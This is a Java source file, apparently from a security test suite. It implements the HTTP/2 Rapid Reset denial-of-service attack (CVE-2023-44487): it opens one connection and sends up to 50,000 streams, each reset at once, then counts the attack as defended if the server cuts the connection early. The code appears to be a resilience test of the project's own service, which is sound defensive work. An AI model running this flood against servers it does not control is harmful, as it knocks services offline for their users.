package dev.parallax.attack.stranger;

import dev.parallax.attack.Attack;
import dev.parallax.attack.AttackRecord;
import dev.parallax.attack.AttackResult;
import dev.parallax.attack.Installation;
import java.io.IOException;

/** 50,000 calls on one connection, each reset at once (CVE-2023-44487). */
public final class RapidReset implements Attack {
  private static final int STREAMS = 50_000;
  private static final int BATCH = 100;

  private int sent;
  private boolean cut;

  @Override
  public String name() {
    return "stranger/rapid-reset";
  }

  @Override
  public String launch(Installation at) throws InterruptedException {
    try (var connection = Http2Connection.open(at.coordinatorAddress())) {
      try {
        while (sent < STREAMS && !connection.closed() && !connection.goaway()) {
          for (int i = 0; i < BATCH; i++, sent++) {
            int stream = 1 + 2 * sent;
            connection.call(stream, "/parallax.v1.EnrolmentService/Enrol");
            connection.reset(stream);
          }
          connection.flush();
        }
      } catch (IOException closed) {
        cut = true;
      }
      Thread.sleep(500);
      cut |= connection.goaway() || connection.closed();
    } catch (IOException refused) {
      cut = true;
    }
    return "%,d streams opened and reset".formatted(sent);
  }

  @Override
  public AttackResult judge(AttackRecord evidence) {
    return AttackResult.of(
        cut && sent < STREAMS, cut ? "cut after %,d".formatted(sent) : "none was refused");
  }
}
